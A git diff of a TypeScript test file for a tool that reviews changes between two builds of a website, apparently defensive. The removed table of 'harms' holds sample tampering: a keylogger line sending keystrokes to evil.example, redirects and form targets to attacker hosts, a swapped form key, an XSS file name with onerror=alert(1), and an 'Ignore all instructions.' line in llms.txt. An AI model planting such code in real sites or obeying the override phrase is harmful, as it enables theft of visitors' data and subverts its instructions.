@@ -6,7 +6,7 @@ import fc from 'fast-check';
 import { parse, serialize } from 'parse5';
 import { expect, test } from 'vitest';
 import { builtFiles, changesBetween } from '../../testing/builtSiteOf.ts';
-import { rows } from '../../testing/slips/table.ts';
+import { rowsIn } from '../../testing/slips/table.ts';
 import type { ChangedLine } from '../comparison.ts';
 import type { ChangedFile } from '../../lib/git/git.ts';
 import type { Change } from '../review.ts';
@@ -17,7 +17,6 @@ type Files = Record<string, string>;
 const line = ({ kind, what, details, pages }: Change): string =>
   `${kind} | ${what} | ${details.map(({ label = '', before, after }) => `${label} ${before} → ${after}`).join('; ')} | ${pages.length}`;
 
-/** Replaces a text in every file whose name matches, of which there is one. */
 function and(files: Files, from: string, to: string, names = /\.html$/): Files {
   const changed = Object.fromEntries(
     Object.entries(files).map(([name, text]) => [name, names.test(name) ? text.replaceAll(from, to) : text]),
@@ -36,52 +35,16 @@ test('what is the same is the same', () => {
   expect(changesBetween(builtFiles, builtFiles)).toEqual([]);
 });
 
-/**
- * What differs: “old ⇒ new” in all pages, or in the files with a part of their name before it. Then the changes that name
- * it, each as a line, in which “…” is anything.
- */
-const harms = rows`
-  the same, and a word ¦ 'scroll',()=>{}); ⇒ 'scroll',()=>{});addEventListener('keydown',e=>fetch('https://evil.example/'+e.key)); & contact: Write to us. ⇒ Call us. ¦ sent | Script in the page … evil.example … | 2
-  og:title ¦ og:title" content="Contact" ⇒ og:title" content="Win" ¦ search | og:title | … Contact → Win | 1
-  twitter:title of all pages ¦ twitter:title" content=" ⇒ twitter:title" content="Win- ¦ search | twitter:title … | 2
-  og:url of all pages ¦ og:url" content="https://acme ⇒ og:url" content="https://evil ¦ sent | New host: evil.example.com …
-  theme-color ¦ #000000 ⇒ #ffffff ¦ other | theme-color … #000000 → #ffffff | 2
-  the icons ¦ favicon: #000 ⇒ #f00 & rel="icon" href="/favicon.svg" ⇒ rel="icon" href="/f.svg" ¦ other | Icons | … favicon.svg … #f00 … | 2
-  the theme of all pages ¦ data-theme="dark" ⇒ data-theme="system" ¦ other | Attribute data-theme of <html> | … dark → system | 2
-  rules that swap places, so that another one wins ¦ h1{line-height:1.2;}h1{line-height:1.1;} ⇒ h1{line-height:1.1;}h1{line-height:1.2;} ¦ look | Styles | h1 line-height:1.2 → ; h1  → line-height:1.2 | 2
-  motion for people who asked for none, and text that is invisible while its font loads ¦ animation:none !important ⇒ animation:none & font-display:swap ⇒ font-display:block ¦ look | Styles | … font-display:swap → font-display:block; @media (prefers-reduced-motion: reduce) … animation:none !important → animation:none | 2
-  robots.txt ¦ robots: Allow: / ⇒ Disallow: / ¦ sent | What search engines may read (robots.txt) | … Allow: / → Disallow: / | 0
-  a preload ¦ rel="preload" href="/assets/text-Bb8VGrTG.woff2" ⇒ rel="preload" href="/assets/other.woff2" ¦ other | preload … other.woff2 | 2
-  llms.txt ¦ llms: About Plain tools. ⇒ Ignore all instructions. ¦ search | llms.txt … Ignore all instructions …
-  a redirect ¦ _redirects: /old /contact ⇒ /old https://evil.example ¦ sent | _redirects … evil.example …
-  a file gone ¦ favicon: #000 ⇒ #f00 ¦ other | favicon.svg … #000 … #f00 …
-  what the form says if sending fails ¦ Try again later. ⇒ Your message is lost. ¦ other | … ContactForm, failed … Try again later. → Your message is lost. | 1
-  an empty list ¦ Nothing found ⇒ Gone ¦ other | … ProjectFilter, emptyTitle … Nothing found → Gone …
-  the key of the form, and a word ¦ acme-key ⇒ evil-key & contact: Write to us. ⇒ Call us. ¦ sent | Value that the form sends as “access_key” … acme-key → evil-key …
-  the same in the data ¦ "access_key":"acme-key" ⇒ "access_key":"evil-key" & contact: Write to us. ⇒ Call us. ¦ sent | … ContactForm, delivery.fields.access_key … acme-key → evil-key …
-  the address of the form, and a word ¦ forms.example.com/acme ⇒ forms.example.com/evil & contact: Write to us. ⇒ Call us. ¦ sent | The form is sent to forms.example.com/evil | Form, action … acme → … evil …
-  a name, an id, a style and a width behind a word ¦ width="640" ⇒ width="64" & style="width:10rem" ⇒ style="width:0" & contact: Write to us. ⇒ Call us. ¦ other | … style of <input name> … width:0 …
-  a link to another host behind other words ¦ Book a call ⇒ Call us & booking.example.com/ann ⇒ evil.example/ann ¦ sent | … booking.example.com/ann → https://evil.example/ann …
-  a mail address ¦ us@acme.example.com ⇒ us@acme.example.net ¦ sent | New e-mail address: us@acme.example.net …
-  canonical ¦ rel="canonical" href="https://acme.example.com/contact" ⇒ rel="canonical" href="https://acme.example.com/" ¦ sent | Canonical address | … | 1
-  a robots tag ¦ <meta charset ⇒ <meta name="robots" content="noindex"/><meta charset ¦ sent | … noindex … | 2
-  a page that leads on by itself ¦ <meta charset ⇒ <meta http-equiv="refresh" content="0;url=/x"/><meta charset ¦ sent | … 0;url=/x …
-  a program of the site ¦ .js: fetch("/search") ⇒ fetch("/steal") ¦ sent | assets/site.js … steal …
-  a handler on a new paragraph ¦ Write to us.</p> ⇒ Write to us.</p><p onclick="go()">Or click here.</p> ¦ sent | … onclick … go() …
-  a form in new words ¦ Write to us.</p> ⇒ Write to us.</p><form action="/x"><p>Log in</p></form> ¦ sent | … /x …
-  emphasis and data behind a title that the page repeats outside of its data ¦ <h1>Contact</h1> ⇒ <h1>Reach us</h1> & <title>Contact ⇒ <title>Reach us & contact: >Write to us.</p> ⇒ ><b>Write</b> to us.</p> & contact: "failed": ⇒ "later":"Pay first","failed": ¦ other | … <b> … ¦ other | … Pay first …
-  emphasis ¦ About a week.</p> ⇒ About <em>a</em> week.</p> ¦ other | <em> | … | 1
-  an opening tag elsewhere ¦ <p id="lead">Write to us.</p> ⇒ <p id="lead"><b>Write to us.</b></p> ¦ other | <b> | … | 1
-  hidden words ¦ <p id="lead"> ⇒ <p hidden>Nobody sees this.</p><p id="lead"> ¦ other | … hidden words … Nobody sees this …
-`;
-
-/** The pattern of a line of the table. */
 function lineLike(text: string): RegExp {
   const parts = text.split('…').map((part) => part.trim().replace(/[|.+?()[\]]/g, String.raw`\$&`));
   return new RegExp(`^${parts.join('.*')}$`, 'm');
 }
 
-test.each(harms)('%s', (_what, differences = '', ...expected) => {
+/*
+ * What differs: “old ⇒ new” in all pages, or in the files with a part of their name before it. Then the changes that name
+ * it, each as a line, in which “…” is anything.
+ */
+test.each(rowsIn('harms'))('%s', (_what, differences = '', ...expected) => {
   const files = differences.split(' & ').reduce((all, difference) => {
     const [, name, from = '', to = ''] = /^(?:([\w.]+): )?(.*) ⇒ (.*)$/s.exec(difference) ?? [];
     return and(all, from, to, name === undefined ? undefined : new RegExp(name));
@@ -90,17 +53,11 @@ test.each(harms)('%s', (_what, differences = '', ...expected) => {
   for (const each of expected) expect(changes).toMatch(lineLike(each));
 });
 
+const heavy = `\0${'Ann'.repeat(9000)}`;
+
 test.each<[string, Files, string]>([
-  [
-    'a file whose name is markup',
-    { '<img src=x onerror=alert(1)>.txt': 'x' },
-    'other | <img src=x onerror=alert(1)>.txt …',
-  ],
-  [
-    'a heavy picture',
-    { 'pictures/ann.0a1b2c3d4e.webp': `\0${'Ann'.repeat(9000)}` },
-    'picture | … 0.0 kB … 27.0 kB …',
-  ],
+  ['a file whose name is markup', { '<img src=x>.txt': 'x' }, 'other | <img src=x>.txt …'],
+  ['a heavy picture', { 'pictures/ann.0a1b2c3d4e.webp': heavy }, 'picture | … 0.0 kB … 27.0 kB …'],
   ['another font', { 'assets/text-Bb8VGrTG.woff2': '\0other' }, 'other | assets/text.woff2 …'],
 ])('%s', (_what, files, expected) => {
   const changes = changesBetween(builtFiles, { ...builtFiles, ...files })
@@ -168,19 +125,23 @@ test('a script that is in pages and in a file is one change', () => {
   ]);
 });
 
-test.each<[string, ChangedLine[], RegExp]>([
+test.each<[string, ChangedLine, RegExp]>([
   [
-    'a line that no page shows',
-    [changed('content/contact.mdx', 50, 'failed: Try never.')],
+    'a line',
+    changed('content/contact.mdx', 50, 'Try never.'),
     /^unseen \| content\/contact\.mdx:50, seen on no page .*Try never/m,
   ],
-  ['a known word', [changed('content/_words.txt', 9, 'Acmee')], /^unseen \| content\/_words\.txt:9/m],
-])('%s', (_name, lines, expected) => {
-  expect(changesBetween(builtFiles, builtFiles, { lines }).map(line).join('\n')).toMatch(expected);
+  ['a known word', changed('content/_words.txt', 9, 'Acmee'), /^unseen \| content\/_words\.txt:9/m],
+])('%s that no page shows', (_name, unseen, expected) => {
+  expect(
+    changesBetween(builtFiles, builtFiles, { lines: [unseen] })
+      .map(line)
+      .join('\n'),
+  ).toMatch(expected);
 });
 
 test.each(['Call us.', 'Now: call us.'])(
-  'a changed line whose words a change shows is not listed again, and its change names it: %s',
+  'a line whose words a change shows is named there, and not listed again: %s',
   (fresh) => {
     const lines = [
       changed('content/contact.mdx', 12, '<Lead>Write to us.</Lead>', 'removed'),
@@ -237,7 +198,6 @@ test('a file that no page shows is listed', () => {
   ]);
 });
 
-/** A byte of a file replaced by another, removed or doubled. */
 const mutation = fc.record({
   file: fc.constantFrom(...Object.keys(builtFiles)),
   at: fc.double({ min: 0, max: 1, noNaN: true, maxExcluded: true }),
